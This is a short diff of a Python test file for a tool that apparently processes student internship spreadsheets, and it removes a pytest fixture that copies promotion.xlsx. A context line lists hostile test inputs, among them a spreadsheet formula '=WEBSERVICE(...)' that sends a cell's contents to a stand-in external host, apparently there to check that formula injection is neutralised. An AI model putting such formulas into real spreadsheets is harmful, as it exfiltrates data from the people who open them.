@@ -32,13 +32,6 @@ HOSTILE = ['=WEBSERVICE("http://x.example/"&B2)', "=> Poursuivre la mission", "+
 CSV_HEADER = "N° étudiant,Période,Activités de la période,Autres actions,Apports de formation mobilisés,Attentes\n"
 
 
-@pytest.fixture
-def promo(tmp_path: Path) -> Path:
-    folder = tmp_path / "inputs"
-    folder.mkdir()
-    shutil.copyfile(INPUTS / "promotion.xlsx", folder / "promotion.xlsx")
-    return folder / "promotion.xlsx"
-
 
 def _members(path: Path) -> list[tuple[str, int, bytes]]:
     with zipfile.ZipFile(path) as z:
